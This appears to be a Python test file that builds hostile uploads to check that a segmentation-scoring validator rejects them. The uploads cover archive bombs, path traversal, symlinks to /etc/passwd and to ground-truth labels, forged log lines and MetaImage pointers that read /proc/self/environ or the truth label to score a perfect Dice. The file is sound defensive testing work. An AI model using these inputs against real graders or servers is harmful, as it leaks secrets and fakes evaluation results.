    reason=R_SHAPE,
    names=(".mha",),
)
case(
    "bomb_mha_zlib",
    "bomb",
    with_ps(
        PS + ".mha",
        lambda ctx: mha(np.zeros((7900, 8000), np.uint8), compressed=True),
    ),
    reason=R_SHAPE,
    names=(".mha",),
)
case(
    "bomb_nii_gz_huge_dims",
    "bomb",
    with_ps(
        PS + ".nii.gz",
        lambda ctx: gz(nifti(dims=[2, 32_000, 32_000], datatype=2, bitpix=8, data=zeros(4096))),
    ),
    reason=R_SHAPE + "|" + R_UNREADABLE,
    names=(".nii.gz",),
)

# --------------------------------------------------------------------------------------------
# 3. Path traversal: nothing may be written outside the scratch folder.

_UP = "../" * 12


def _canary(name: str) -> Callable[[Context], list[Path]]:
    return lambda ctx: [ctx.canary(name)]


def _canary_member(ctx: Context, name: str) -> str:
    return _UP + str(ctx.canary(name)).lstrip("/")


def _traversal_zip(name: Callable[[Context], str]) -> Builder:
    return lambda ctx: zip_of([*valid_files(ctx), (name(ctx), png(ctx.ps_mask))])


case(
    "traversal_zip_dotdot",
    "traversal",
    _traversal_zip(lambda ctx: _canary_member(ctx, "zip-dotdot")),
    reason=R_TRAVERSAL,
    canaries=_canary("zip-dotdot"),
)
case(
    "traversal_zip_dotdot_inside",
    "traversal",
    _traversal_zip(lambda ctx: "preds/a/../../../escaped.png"),
    reason=R_TRAVERSAL,
)
case(
    "traversal_zip_absolute",
    "traversal",
    lambda ctx: raw_zip(
        [
            RawZipEntry(str(ctx.canary("zip-abs")).encode(), b"x"),
            RawZipEntry(f"{PRED}{ctx.hc_case}.png".encode(), hc_png(ctx)),
            RawZipEntry(f"{PRED}{ctx.ps_case}.png".encode(), ps_png(ctx)),
        ]
    ),
    reason=R_TRAVERSAL,
    canaries=_canary("zip-abs"),
)
case(
    "traversal_zip_drive_letter",
    "traversal",
    lambda ctx: raw_zip([RawZipEntry(b"C:/preds/x.png", b"x")]),
    reason=R_TRAVERSAL,
)
case(
    "traversal_zip_drive_backslash",
    "traversal",
    lambda ctx: raw_zip([RawZipEntry(b"C:\\Users\\x\\preds.png", b"x")]),
    reason=R_TRAVERSAL,
)
case(
    "traversal_zip_backslash_dotdot",
    "traversal",
    lambda ctx: raw_zip(
        [RawZipEntry(("..\\" * 12 + str(ctx.canary("zip-bs")).lstrip("/")).encode(), b"x")]
    ),
    reason=R_TRAVERSAL,
    canaries=_canary("zip-bs"),
)
case(
    "traversal_zip_unc_path",
    "traversal",
    lambda ctx: raw_zip([RawZipEntry(b"\\\\server\\share\\x.png", b"x")]),
    reason=R_TRAVERSAL,
)
case(
    "traversal_tar_dotdot",
    "traversal",
    lambda ctx: tar_of([*valid_files(ctx), (_canary_member(ctx, "tar-dotdot"), b"x")]),
    reason=R_TRAVERSAL,
    canaries=_canary("tar-dotdot"),
    upload_name="traversal_tar_dotdot.tar",
)
case(
    "traversal_tar_absolute",
    "traversal",
    lambda ctx: tar_of(
        [*valid_files(ctx), (str(ctx.canary("tar-abs")), b"x")], fmt=tarfile.GNU_FORMAT
    ),
    reason=R_TRAVERSAL,
    canaries=_canary("tar-abs"),
    upload_name="traversal_tar_absolute.tar",
)
case(
    "traversal_tar_pax_path",
    "traversal",
    lambda ctx: tar_of(
        [
            *valid_files(ctx),
            TarMember("harmless.txt", b"x", pax={"path": _canary_member(ctx, "tar-pax")}),
        ]
    ),
    reason=R_TRAVERSAL,
    canaries=_canary("tar-pax"),
    upload_name="traversal_tar_pax_path.tar",
)
case(
    "traversal_tar_gnu_longname",
    "traversal",
    lambda ctx: tar_of(
        [*valid_files(ctx), ("x" * 120 + "/" + _canary_member(ctx, "tar-gnu"), b"x")],
        fmt=tarfile.GNU_FORMAT,
        compress="gz",
    ),
    reason=R_TRAVERSAL,
    canaries=_canary("tar-gnu"),
    upload_name="traversal_tar_gnu_longname.tgz",
)

# --------------------------------------------------------------------------------------------
# 4. Links, devices, pipes.


def _tar_link(
    kind: str,
    target: Callable[[Context], str],
    member: Callable[[Context], str] = lambda ctx: f"{PRED}{ctx.ps_case}.png",
    after: Callable[[Context], list[TarMember | tuple[str, bytes]]] = lambda ctx: [],
) -> Builder:
    def build(ctx: Context) -> bytes:
        link = TarMember(member(ctx), type=tarfile.SYMTYPE if kind == "sym" else tarfile.LNKTYPE)
        link.linkname = target(ctx)
        return tar_of([good_hc(ctx), link, *after(ctx)])

    return build


case(
    "link_tar_symlink_etc_passwd",
    "links",
    _tar_link("sym", lambda ctx: "/etc/passwd"),
    reason=R_LINK,
    upload_name="link_tar_symlink_etc_passwd.tar",
)
case(
    "link_tar_symlink_truth_label",
    "links",
    _tar_link(
        "sym",
        lambda ctx: str(ctx.truth_labels[ctx.ps_case]),
        member=lambda ctx: f"{PRED}{ctx.ps_case}.mha",
    ),
    reason=R_LINK,
    upload_name="link_tar_symlink_truth_label.tar",
)
case(
    "link_tar_symlink_truth_dir",
    "links",
    lambda ctx: tar_of(
        [TarMember("preds", type=tarfile.SYMTYPE, linkname=str(ctx.truth_dir / "labels"))]
    ),
    reason=R_LINK,
    upload_name="link_tar_symlink_truth_dir.tar",
)
case(
    "link_tar_symlink_relative_up",
    "links",
    _tar_link("sym", lambda ctx: "../" * 12 + str(ctx.truth_labels[ctx.hc_case]).lstrip("/")),
    reason=R_LINK,
    upload_name="link_tar_symlink_relative_up.tar",
)
case(
    "link_tar_hardlink_etc_passwd",
    "links",
    _tar_link("hard", lambda ctx: "/etc/passwd"),
    reason=R_LINK,
    upload_name="link_tar_hardlink_etc_passwd.tar",
)
case(
    "link_tar_hardlink_truth_label",
    "links",
    _tar_link(
        "hard",
        lambda ctx: str(ctx.truth_labels[ctx.ps_case]),
        member=lambda ctx: f"{PRED}{ctx.ps_case}.mha",
    ),
    reason=R_LINK,
    upload_name="link_tar_hardlink_truth_label.tar",
)
case(
    "link_tar_hardlink_to_member",
    "links",
    lambda ctx: tar_of(
        [
            good_hc(ctx),
            ("preds/source.png", ps_png(ctx)),
            TarMember(
                f"{PRED}{ctx.ps_case}.png", type=tarfile.LNKTYPE, linkname="preds/source.png"
            ),
        ]
    ),
    reason=R_LINK,
    upload_name="link_tar_hardlink_to_member.tar",
)
case(
    "link_tar_symlink_dir_then_write_through",
    "links",
    lambda ctx: tar_of(
        [
            TarMember("esc", type=tarfile.SYMTYPE, linkname=str(ctx.canary_root)),
            (f"esc/{ctx.canary('through').name}", b"x"),
            *valid_files(ctx),
        ]
    ),
    reason=R_LINK,
    canaries=_canary("through"),
    upload_name="link_tar_symlink_dir_then_write_through.tar",
)
case(
    "link_zip_symlink_attr",
    "links",
    lambda ctx: raw_zip(
        [
            RawZipEntry(f"{PRED}{ctx.hc_case}.png".encode(), hc_png(ctx)),
            RawZipEntry(
                f"{PRED}{ctx.ps_case}.png".encode(), b"/etc/passwd", method=0, mode=0o120777
            ),
        ]
    ),
    reason=R_LINK,
)
for _name, _type, _major, _minor in (
    ("chardev", tarfile.CHRTYPE, 1, 5),
    ("blockdev", tarfile.BLKTYPE, 8, 0),
    ("fifo", tarfile.FIFOTYPE, 0, 0),
):
    case(
        f"special_tar_{_name}",
        "links",
        (
            lambda t, ma, mi: (
                lambda ctx: tar_of(
                    [
                        good_hc(ctx),
                        TarMember(f"{PRED}{ctx.ps_case}.png", type=t, devmajor=ma, devminor=mi),
                    ]
                )
            )
        )(_type, _major, _minor),
        reason=R_SPECIAL,
        upload_name=f"special_tar_{_name}.tar",
    )
case(
    "special_zip_chardev_attr",
    "links",
    lambda ctx: raw_zip(
        [
            RawZipEntry(f"{PRED}{ctx.hc_case}.png".encode(), hc_png(ctx)),
            RawZipEntry(f"{PRED}{ctx.ps_case}.png".encode(), b"", method=0, mode=0o020666),
        ]
    ),
    reason=R_SPECIAL,
)

# --------------------------------------------------------------------------------------------
# 5. Zip structure: encryption, duplicates, corruption, truncation, emptiness.

case(
    "zip_encrypted_member",
    "zip",
    lambda ctx: raw_zip(
        [
            RawZipEntry(f"{PRED}{ctx.hc_case}.png".encode(), hc_png(ctx)),
            RawZipEntry(
                f"{PRED}{ctx.ps_case}.png".encode(),
                ps_png(ctx),
                flags=0x1,
                payload=bytes(12) + _deflate(ps_png(ctx)),
            ),
        ]
    ),
    reason=R_ENCRYPTED,
)
case(
    "zip_aes_method_99",
    "zip",
    lambda ctx: raw_zip(
        [
            RawZipEntry(f"{PRED}{ctx.hc_case}.png".encode(), hc_png(ctx)),
            RawZipEntry(
                f"{PRED}{ctx.ps_case}.png".encode(),
                ps_png(ctx),
                method=99,
                flags=0x1,
                payload=bytes(40),
            ),
        ]
    ),
    reason=R_ENCRYPTED + "|compression method|not supported|unsupported",
)
case(
    "zip_unsupported_method_ppmd",
    "zip",
    lambda ctx: raw_zip(
        [
            RawZipEntry(f"{PRED}{ctx.hc_case}.png".encode(), hc_png(ctx)),
            RawZipEntry(
                f"{PRED}{ctx.ps_case}.png".encode(), ps_png(ctx), method=98, payload=bytes(64)
            ),
        ]
    ),
    reason=r"compression method|not supported|unsupported|corrupt",
)
case(
    "zip_duplicate_member",
    "zip",
    lambda ctx: raw_zip(
        [
            RawZipEntry(f"{PRED}{ctx.hc_case}.png".encode(), hc_png(ctx)),
            RawZipEntry(f"{PRED}{ctx.ps_case}.png".encode(), ps_png(ctx)),
            RawZipEntry(f"{PRED}{ctx.ps_case}.png".encode(), png(1 - _mask_ps(ctx))),
        ]
    ),
    reason=R_DUPLICATE,
)
case(
    "zip_duplicate_case_two_folders",
    "zip",
    lambda ctx: zip_of([*valid_files(ctx), (f"other/{ctx.ps_case}.png", ps_png(ctx))]),
    reason=R_DUPLICATE,
    names=("other/",),
)
case(
    "zip_duplicate_case_two_formats",
    "zip",
    lambda ctx: zip_of([*valid_files(ctx), (f"{PRED}{ctx.ps_case}.mha", mha(_mask_ps(ctx)))]),
    reason=R_DUPLICATE,
    names=(".mha",),
)
case(
    "zip_bad_crc",
    "zip",
    lambda ctx: raw_zip(
        [
            RawZipEntry(f"{PRED}{ctx.hc_case}.png".encode(), hc_png(ctx)),
            RawZipEntry(f"{PRED}{ctx.ps_case}.png".encode(), ps_png(ctx), crc=0xDEADBEEF),
        ]
    ),
    reason=R_CORRUPT,
)
case(
    "zip_header_name_mismatch",
    "zip",
    lambda ctx: raw_zip(
        [
            RawZipEntry(f"{PRED}{ctx.hc_case}.png".encode(), hc_png(ctx)),
            RawZipEntry(
                f"{PRED}{ctx.ps_case}.png".encode(),
                ps_png(ctx),
                central_name=f"{PRED}{ctx.ps_case}.PNG".encode(),
            ),
        ]
    ),
    reason=R_CORRUPT + "|differ",
)
case(
    "zip_central_offset_past_end",
    "zip",
    lambda ctx: raw_zip(
        [
            RawZipEntry(f"{PRED}{ctx.hc_case}.png".encode(), hc_png(ctx)),
            RawZipEntry(f"{PRED}{ctx.ps_case}.png".encode(), ps_png(ctx), offset=10**9),
        ]
    ),
    reason=R_CORRUPT,
)
for _label, _fraction, _cut in (
    ("10pct", 0.1, None),
    ("50pct", 0.5, None),
    ("90pct", 0.9, None),
    ("no_eocd", None, 22),
    ("last_byte", None, 1),
):
    case(
        f"zip_truncated_{_label}",
        "zip",
        truncate(valid_zip, _fraction, _cut),
        reason=R_CORRUPT + "|" + R_NOT_ARCHIVE,
    )
case(
    "zip_only_local_header",
    "zip",
    lambda ctx: valid_zip(ctx)[:30],
    reason=R_CORRUPT + "|" + R_NOT_ARCHIVE,
)
case(
    "zip_central_directory_only",
    "zip",
    lambda ctx: raw_zip(
        [RawZipEntry(f"{PRED}{ctx.hc_case}.png".encode(), hc_png(ctx))], local_headers=False
    ),
    reason=R_CORRUPT + "|" + R_NOT_ARCHIVE,
)
case("zip_empty_archive", "zip", lambda ctx: zip_of([]), reason=R_EMPTY)
case(
    "zip_only_folders",
    "zip",
    lambda ctx: zip_of([("preds/", b""), ("preds/sub/", b"")]),
    reason=R_EMPTY,
)
case(
    "zip_junk_only",
    "zip",
    lambda ctx: zip_of(
        [("notes.txt", b"hello"), ("model.pt", bytes(100)), ("results.csv", b"a,b\n1,2\n")]
    ),
    reason=R_EMPTY,
)
case(
    "zip_empty_member_name",
    "zip",
    lambda ctx: raw_zip(
        [RawZipEntry(b"", b"x"), *[RawZipEntry(n.encode(), d) for n, d in valid_files(ctx)]]
    ),
    reason=R_NAME + "|empty",
)
case(
    "zip_empty_mask_file",
    "zip",
    lambda ctx: zip_of([good_hc(ctx), (f"{PRED}{ctx.ps_case}.png", b"")]),
    reason=R_UNREADABLE + "|empty",
    names=(".png",),
)

# --------------------------------------------------------------------------------------------
# 6. Nested archives.

case(
    "nested_zip_in_zip",
    "nested",
    lambda ctx: zip_of([("inner.zip", valid_zip(ctx))]),
    reason=R_NESTED,
    names=("inner.zip",),
)
case(
    "nested_tar_gz_in_zip",
    "nested",
    lambda ctx: zip_of([("inner.tar.gz", tar_of(valid_files(ctx), compress="gz"))]),
    reason=R_NESTED,
    names=("inner.tar.gz",),
)
case(
    "nested_zip_in_tar_gz",
    "nested",
    lambda ctx: tar_of([("preds/inner.zip", valid_zip(ctx))], compress="gz"),
    reason=R_NESTED,
    names=("inner.zip",),
    upload_name="nested_zip_in_tar_gz.tar.gz",
)
case(
    "nested_tar_in_tar",
    "nested",
    lambda ctx: tar_of([("inner.tar", tar_of(valid_files(ctx)))]),
    reason=R_NESTED,
    names=("inner.tar",),
    upload_name="nested_tar_in_tar.tar",
)
case(
    "nested_zip_named_png",
    "nested",
    with_ps(PS + ".png", valid_zip),
    reason=R_UNREADABLE + "|not a PNG",
    names=(".png",),
)

# --------------------------------------------------------------------------------------------
# 7. Tar structure.

case(
    "tar_duplicate_member",
    "tar",
    lambda ctx: tar_of([*valid_files(ctx), good_ps(ctx)]),
    reason=R_DUPLICATE,
    upload_name="tar_duplicate_member.tar",
)
case(
    "tar_empty_archive",
    "tar",
    lambda ctx: zeros(10240),
    reason=R_EMPTY,
    upload_name="tar_empty_archive.tar",
)
case(
    "tar_gz_empty_archive",
    "tar",
    lambda ctx: tar_of([], compress="gz"),
    reason=R_EMPTY,
    upload_name="tar_gz_empty_archive.tar.gz",
)
case(
    "tar_only_folders",
    "tar",
    lambda ctx: tar_of([TarMember("preds", type=tarfile.DIRTYPE)]),
    reason=R_EMPTY,
    upload_name="tar_only_folders.tar",
)


def _valid_tar(ctx: Context) -> bytes:
    return tar_of(valid_files(ctx), fmt=tarfile.USTAR_FORMAT)


def _tar_second_offset(ctx: Context) -> int:
    return tar_header_offsets(_valid_tar(ctx))[1]


case(
    "tar_truncated_mid_first_header",
    "tar",
    lambda ctx: _valid_tar(ctx)[:300],
    reason=R_CORRUPT + "|" + R_NOT_ARCHIVE,
    upload_name="tar_truncated_mid_first_header.tar",
)
case(
    "tar_truncated_mid_data",
    "tar",
    lambda ctx: _valid_tar(ctx)[: _tar_second_offset(ctx) + 512 + 700],
    reason=R_CORRUPT,
    upload_name="tar_truncated_mid_data.tar",
)
case(
    "tar_truncated_mid_second_header",
    "tar",
    lambda ctx: _valid_tar(ctx)[: _tar_second_offset(ctx) + 200],
    reason=R_CORRUPT,
    upload_name="tar_truncated_mid_second_header.tar",
)


def _bad_checksum(ctx: Context) -> bytes:
    data = bytearray(_valid_tar(ctx))
    offset = _tar_second_offset(ctx)
    data[offset + 148 : offset + 156] = b"000001\x00 "
    return bytes(data)


case(
    "tar_bad_checksum_second_member",
    "tar",
    _bad_checksum,
    reason=R_CORRUPT,
    upload_name="tar_bad_checksum_second_member.tar",
    note="tarfile treats a bad later header as the end of the archive: a case silently vanishes",
)
case(
    "tar_declared_size_past_end",
    "tar",
    lambda ctx: tar_with_lying_size(f"{PRED}{ctx.ps_case}.png", ps_png(ctx), 10 * MiB),
    reason=R_CORRUPT,
    upload_name="tar_declared_size_past_end.tar",
)
_tar_gz = lambda ctx: tar_of(valid_files(ctx), compress="gz")  # noqa: E731
for _label, _fraction, _cut in (
    ("header", None, None),
    ("30pct", 0.3, None),
    ("70pct", 0.7, None),
    ("no_trailer", None, 8),
):
    case(
        f"tar_gz_truncated_{_label}",
        "tar",
        (lambda ctx: _tar_gz(ctx)[:10])
        if _label == "header"
        else truncate(_tar_gz, _fraction, _cut),
        reason=R_CORRUPT,
        upload_name=f"tar_gz_truncated_{_label}.tar.gz",
    )


def _gz_bad_crc(ctx: Context) -> bytes:
    data = bytearray(_tar_gz(ctx))
    data[-8:-4] = b"\xde\xad\xbe\xef"
    return bytes(data)


case(
    "tar_gz_bad_crc",
    "tar",
    _gz_bad_crc,
    reason=R_CORRUPT,
    upload_name="tar_gz_bad_crc.tar.gz",
)
case(
    "tar_bz2_truncated",
    "tar",
    truncate(lambda ctx: tar_of(valid_files(ctx), compress="bz2"), 0.5),
    reason=R_CORRUPT,
    upload_name="tar_bz2_truncated.tar.bz2",
)
case(
    "tar_xz_truncated",
    "tar",
    truncate(lambda ctx: tar_of(valid_files(ctx), compress="xz"), 0.5),
    reason=R_CORRUPT,
    upload_name="tar_xz_truncated.tar.xz",
)

# --------------------------------------------------------------------------------------------
# 8. Odd names: encodings, NUL, control characters, normalisation, length.


def _nul_zip(ctx: Context) -> bytes:
    placeholder = f"{PRED}{ctx.ps_case}.png_NULevil".encode()
    data = raw_zip(
        [
            RawZipEntry(f"{PRED}{ctx.hc_case}.png".encode(), hc_png(ctx)),
            RawZipEntry(placeholder, ps_png(ctx)),
        ]
    )
    return data.replace(placeholder, placeholder.replace(b"_NUL", b"\x00NUL"))


case(
    "name_zip_nul",
    "names",
    _nul_zip,
    reason=R_NAME,
    names=("evil", "NUL", "null"),
    note="zipfile cuts a name at NUL; the member would be read as the case's mask",
)
case(
    "name_tar_pax_nul",
    "names",
    lambda ctx: tar_of(
        [
            good_hc(ctx),
            TarMember("x.png", ps_png(ctx), pax={"path": f"{PRED}{ctx.ps_case}\x00evil.png"}),
        ]
    ),
    reason=R_NAME,
    names=("evil", "NUL", "null"),
    upload_name="name_tar_pax_nul.tar",
)
case(
    "name_tar_non_utf8",
    "names",
    lambda ctx: tar_of(
        [*valid_files(ctx), ("preds/caf\udce9-latin1-name.png", png(_mask_ps(ctx)))],
        fmt=tarfile.GNU_FORMAT,
    ),
    reason=R_NAME,
    names=("latin1-name",),
    upload_name="name_tar_non_utf8.tar",
)
case(
    "name_tar_non_utf8_folder_of_case",
    "names",
    lambda ctx: tar_of(
        [good_hc(ctx), (f"\udcff\udcfe-folder/{ctx.ps_case}.png", png(ctx.ps_mask[:-3]))],
        fmt=tarfile.GNU_FORMAT,
    ),
    reason=R_SHAPE + "|" + R_NAME,
    names=(".png",),
    upload_name="name_tar_non_utf8_folder_of_case.tar",
    note="a wrong-shape mask whose folder name is not UTF-8: the message names it",
)
case(
    "name_zip_cp437_bytes",
    "names",
    lambda ctx: raw_zip(
        [
            *[RawZipEntry(n.encode(), d) for n, d in valid_files(ctx)],
            RawZipEntry(b"preds/\x82\xff-cp437-name.png", b"x"),
        ]
    ),
    reason=R_NAME,
    names=("cp437-name",),
)
case(
    "name_zip_utf8_flag_invalid_bytes",
    "names",
    lambda ctx: raw_zip(
        [
            *[RawZipEntry(n.encode(), d) for n, d in valid_files(ctx)],
            RawZipEntry(b"preds/\xff\xfe-bad-utf8.png", b"x", flags=0x800),
        ]
    ),
    reason=R_NAME + "|" + R_CORRUPT,
)
case(
    "name_zip_ansi_escape",
    "names",
    lambda ctx: zip_of([*valid_files(ctx), ("preds/\x1b[31mansi-name\x1b[0m.png", b"x")]),
    reason=R_NAME,
    names=("ansi-name",),
)
case(
    "name_zip_ansi_case_file",
    "names",
    lambda ctx: zip_of(
        [
            good_hc(ctx),
            (f"\x1b[2J\x1b[31mansi-dir/{ctx.ps_case}.png", png(np.dstack([_mask_ps(ctx)] * 3))),
        ]
    ),
    reason=R_RGB + "|" + R_NAME,
    names=("ansi-dir", f"{PS}.png"),
)
case(
    "name_zip_newline_forged_line",
    "names",
    lambda ctx: zip_of(
        [*valid_files(ctx), ("preds/forged\n- all cases are fine [ok]\n.png", b"x")]
    ),
    reason=R_NAME,
    names=("forged",),
    forbidden=("\n- all cases are fine",),
)
case(
    "name_zip_carriage_return_bell",
    "names",
    lambda ctx: zip_of([*valid_files(ctx), ("preds/bell\x07cr\rname.png", b"x")]),
    reason=R_NAME,
    names=("bell",),
)
case(
    "name_zip_bidi_override",
    "names",
    lambda ctx: zip_of([*valid_files(ctx), ("preds/bidi\u202egnp.exe.png", b"x")]),
    reason=R_NAME,
    names=("bidi",),
)
case(
    "name_zip_unicode_nfc_nfd_twins",
    "names",
    lambda ctx: zip_of(
        [
            good_hc(ctx),
            (unicodedata.normalize("NFC", "café/") + f"{ctx.ps_case}.png", ps_png(ctx)),
            (unicodedata.normalize("NFD", "café/") + f"{ctx.ps_case}.png", ps_png(ctx)),
        ]
    ),
    reason=R_DUPLICATE,
    names=(".png",),
)
case(
    "name_zip_homoglyph_case",
    "names",
    lambda ctx: zip_of(
        [(f"{PRED}{ctx.hc_case[:-2]}Н{ctx.hc_case[-1]}.png", hc_png(ctx)), good_ps(ctx)]
    ),
    reason=R_NAME + "|missing",
    names=("Н",),
)
case(
    "name_zip_component_too_long",
    "names",
    lambda ctx: zip_of([*valid_files(ctx), ("preds/" + "n" * 300 + ".png", b"x")]),
    reason=R_LONG,
)
case(
    "name_zip_name_longer_than_64k",
    "names",
    lambda ctx: raw_zip(
        [
            *[RawZipEntry(n.encode(), d) for n, d in valid_files(ctx)],
            RawZipEntry(("a/" * 32_000 + "x.png").encode(), b"x"),
        ]
    ),
    reason=R_LONG + "|deep|path",
)

# --------------------------------------------------------------------------------------------
# 9. Not an archive at all.

case(
    "upload_png_named_zip",
    "not_archive",
    lambda ctx: ps_png(ctx),
    reason=R_NOT_ARCHIVE,
)
case(
    "upload_bare_png",
    "not_archive",
    lambda ctx: ps_png(ctx),
    reason=R_NOT_ARCHIVE,
    upload_name="prediction.png",
)
case(
    "upload_bare_mha",
    "not_archive",
    lambda ctx: mha(_mask_ps(ctx)),
    reason=R_NOT_ARCHIVE,
    upload_name="prediction.mha",
)
case(
    "upload_text",
    "not_archive",
    lambda ctx: b"these are my predictions, see attached\n" * 20,
    reason=R_NOT_ARCHIVE,
)
case(
    "upload_random_bytes",
    "not_archive",
    lambda ctx: np.random.default_rng(9).integers(0, 256, 4096, dtype=np.uint8).tobytes(),
    reason=R_NOT_ARCHIVE,
)
case(
    "upload_7z",
    "not_archive",
    lambda ctx: b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(64),
    reason=R_NOT_ARCHIVE,
    upload_name="upload_7z.7z",
)
case(
    "upload_rar",
    "not_archive",
    lambda ctx: b"Rar!\x1a\x07\x01\x00" + bytes(64),
    reason=R_NOT_ARCHIVE,
    upload_name="upload_rar.rar",
)
case(
    "upload_pdf",
    "not_archive",
    lambda ctx: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + bytes(300),
    reason=R_NOT_ARCHIVE,
)
case(
    "upload_name_with_ansi_and_newline",
    "not_archive",
    lambda ctx: b"not an archive",
    reason=R_NOT_ARCHIVE,
    upload_name="\x1b[31mred-upload\x1b[0m\nline2.zip",
    names=("red-upload",),
)
case(
    "upload_name_with_path",
    "not_archive",
    lambda ctx: b"not an archive",
    reason=R_NOT_ARCHIVE,
    upload_name="../../../etc/upload_name_with_path.zip",
    names=("upload_name_with_path.zip",),
)
case(
    "upload_single_byte",
    "not_archive",
    lambda ctx: b"P",
    reason=R_NOT_ARCHIVE + "|" + R_EMPTY,
)
case(
    "upload_gzip_of_png",
    "not_archive",
    lambda ctx: gz(ps_png(ctx)),
    reason=R_NOT_ARCHIVE + "|not a tar|" + R_CORRUPT,
    upload_name="upload_gzip_of_png.png.gz",
)
case(
    "upload_empty_file",
    "not_archive",
    lambda ctx: b"",
    "rejected",
    reason=R_EMPTY,
)

# --------------------------------------------------------------------------------------------
# 10. PNG trickery.


def _ps_png_case(kind: str, make: Callable[[Context], bytes], reason: str, **kw) -> None:
    case(
        kind,
        "png",
        with_ps(PS + ".png", make),
        reason=reason,
        names=kw.pop("names", (".png",)),
        **kw,
    )


_ps_png_case(
    "png_truncated_mid_idat", lambda ctx: ps_png(ctx)[: len(ps_png(ctx)) // 2], R_UNREADABLE
)
_ps_png_case("png_truncated_after_signature", lambda ctx: ps_png(ctx)[:20], R_UNREADABLE)
_ps_png_case(
    "png_bad_crc_ihdr",
    lambda ctx: png_raw(256, 256, png_rows(_mask_ps(ctx)), ihdr_crc=0),
    R_UNREADABLE,
)
_ps_png_case(
    "png_bad_crc_idat",
    lambda ctx: png_raw(
        ctx.ps_mask.shape[1], ctx.ps_mask.shape[0], png_rows(_mask_ps(ctx)), idat_crc=0
    ),
    R_UNREADABLE,
    note="libpng refuses a bad IDAT CRC; Pillow does not check it",
)
_ps_png_case(
    "png_bad_zlib",
    lambda ctx: png_raw(ctx.ps_mask.shape[1], ctx.ps_mask.shape[0], idat=b"\x78\x9cgarbage" * 50),
    R_UNREADABLE,
)
_ps_png_case("png_rgb", lambda ctx: png(np.dstack([_mask_ps(ctx)] * 3)), R_RGB)
_ps_png_case(
    "png_rgba", lambda ctx: png(np.dstack([_mask_ps(ctx)] * 3 + [_mask_ps(ctx) * 0 + 255])), R_RGB
)
_ps_png_case(
    "png_grey_alpha",
    lambda ctx: png(np.dstack([_mask_ps(ctx), _mask_ps(ctx) * 0 + 255]), mode=None),
    R_RGB,
)
_ps_png_case("png_zero_by_zero", lambda ctx: png_raw(0, 0, b""), R_UNREADABLE + "|" + R_SHAPE)
_ps_png_case(
    "png_jpeg_content", lambda ctx: _jpeg(_mask_ps(ctx) * 255), R_UNREADABLE + "|not a PNG|JPEG"
)
_ps_png_case("png_wrong_values_class_7", lambda ctx: png(_mask_ps(ctx) * 7), R_VALUES)
_ps_png_case(
    "png_values_0_1_255_mixed",
    lambda ctx: png(
        np.where(
            np.arange(ctx.ps_mask.size).reshape(ctx.ps_mask.shape) % 2,
            _mask_ps(ctx),
            _mask_ps(ctx) * 255,
        ).astype(np.uint8)
    ),
    R_VALUES,
)
_ps_png_case(
    "png_16bit_values_65535", lambda ctx: png(_mask_ps(ctx).astype(np.uint16) * 65535), R_VALUES
)
_ps_png_case("png_wrong_shape", lambda ctx: png(_mask_ps(ctx)[:-7]), R_SHAPE)
case(
    "png_transposed",
    "png",
    with_hc(HC + ".png", lambda ctx: png(np.ascontiguousarray(ctx.hc_mask.T))),
    reason=R_SHAPE + "|swapped",
    names=(".png",),
)
_ps_png_case(
    "png_apng_two_frames",
    lambda ctx: apng([_mask_ps(ctx), 1 - _mask_ps(ctx)]),
    "animated PNG with 2 frames",
    note="policy: a mask is one still image; which frame was meant is a guess",
)
_ps_png_case(
    "png_apng_frames_of_other_size",
    lambda ctx: _apng_bad_frame(ctx),
    R_SHAPE + "|" + R_UNREADABLE + "|animat|frame",
    note="frame 2 larger than the canvas: a malformed APNG",
)


def _jpeg(array: np.ndarray) -> bytes:
    buffer = io.BytesIO()
    Image.fromarray(array).save(buffer, format="JPEG")
    return buffer.getvalue()


def _apng_bad_frame(ctx: Context) -> bytes:
    data = apng([_mask_ps(ctx), 1 - _mask_ps(ctx)])
    # fcTL of the second frame: make its width far larger than the canvas.
    first = data.find(b"fcTL")
    second = data.find(b"fcTL", first + 4)
    body = bytearray(data[second + 4 : second + 4 + 26])
    struct.pack_into(">I", body, 4, 60_000)
    chunk = png_chunk(b"fcTL", bytes(body))
    return data[: second - 4] + chunk + data[second + 4 + 26 + 4 :]


# --------------------------------------------------------------------------------------------
# 11. MetaImage: pointer headers (THE POINTER ATTACK), huge and broken headers.


def _ptr(data_file: Callable[[Context], str], header_size: int | None = -1) -> Builder:
    return with_ps(
        PS + ".mha",
        lambda ctx: mha_pointer(data_file(ctx), ctx.ps_mask.shape, header_size=header_size),
    )


def _ptr_case(kind: str, build: Builder, note: str = "") -> None:
    case(kind, "metaimage_pointer", build, reason=R_POINTER, names=(".mha",), note=note)


def _truth_ps(ctx: Context) -> str:
    return str(ctx.truth_labels[ctx.ps_case])


_ptr_case(
    "mha_pointer_truth_label_headersize_-1",
    _ptr(_truth_ps),
    note="THE POINTER ATTACK: the truth label's last bytes are its pixels (Dice 1.0)",
)
_ptr_case("mha_pointer_truth_label", _ptr(_truth_ps, header_size=None))
_ptr_case(
    "mha_pointer_truth_png_headersize_-1", _ptr(lambda ctx: str(ctx.truth_labels[ctx.hc_case]))
)
_ptr_case("mha_pointer_truth_relative", _ptr(lambda ctx: "../" * 16 + _truth_ps(ctx).lstrip("/")))
_ptr_case(
    "mha_pointer_list_truth",
    with_ps(
        PS + ".mha",
        lambda ctx: (
            mha_pointer("LIST", ctx.ps_mask.shape, header_size=None)
            + f"{_truth_ps(ctx)}\n".encode()
        ),
    ),
)
_ptr_case(
    "mha_pointer_pattern_truth",
    _ptr(
        lambda ctx: (
            f"{ctx.truth_labels[ctx.ps_case].parent}/{ctx.ps_case[:-1]}%d.mha "
            f"{ctx.ps_case[-1]} {ctx.ps_case[-1]} 1"
        ),
        header_size=None,
    ),
)
for _kind, _target, _size in (
    ("etc_passwd", "/etc/passwd", None),
    ("etc_passwd_headersize_-1", "/etc/passwd", -1),
    ("dev_zero", "/dev/zero", None),
    ("dev_urandom", "/dev/urandom", None),
    ("proc_self_environ", "/proc/self/environ", None),
    ("proc_self_mem", "/proc/self/mem", None),
    ("directory", "/etc", None),
    ("missing_file", "/nonexistent/pixels.raw", None),
):
    _ptr_case(f"mha_pointer_{_kind}", _ptr((lambda t: lambda ctx: t)(_target), header_size=_size))
_ptr_case(
    "mha_pointer_sibling_raw",
    lambda ctx: zip_of(
        [
            good_hc(ctx),
            (
                f"{PRED}{ctx.ps_case}.mha",
                mha_pointer(f"{ctx.ps_case}.raw", ctx.ps_mask.shape, header_size=None),
            ),
